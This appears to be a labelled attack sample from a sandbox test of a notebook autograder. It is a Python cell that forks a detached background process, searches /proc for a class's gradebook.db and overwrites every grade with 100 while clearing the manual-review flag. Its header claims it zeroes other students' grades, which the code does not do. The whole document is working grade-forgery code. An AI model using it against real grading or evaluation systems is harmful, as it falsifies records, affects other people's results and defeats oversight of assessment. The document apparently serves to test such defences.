# The cell looks for the class's gradebook, gives itself full marks in it, and everybody else none.
# from: sandbox 4.3, 61
# aims: forge, other-submission
# outcome: graded
# score: 0

# %% before="weigh"
import os
import sqlite3
import time
from pathlib import Path


def strike():
    for process in Path("/proc").glob("[0-9]*"):
        try:
            words = (process / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        for word in words:
            database = Path(os.fsdecode(word)) / "gradebook.db"
            if word.startswith(b"/") and "attacked-class" in str(database) and database.is_file():
                with sqlite3.connect(database, timeout=5) as connection:
                    connection.execute("update grade set manual_score = 100, needs_manual_grade = 0")


if os.fork() == 0:
    os.setsid()
    for _ in range(100):
        try:
            strike()
        except Exception:
            pass
        time.sleep(1)
    os._exit(0)
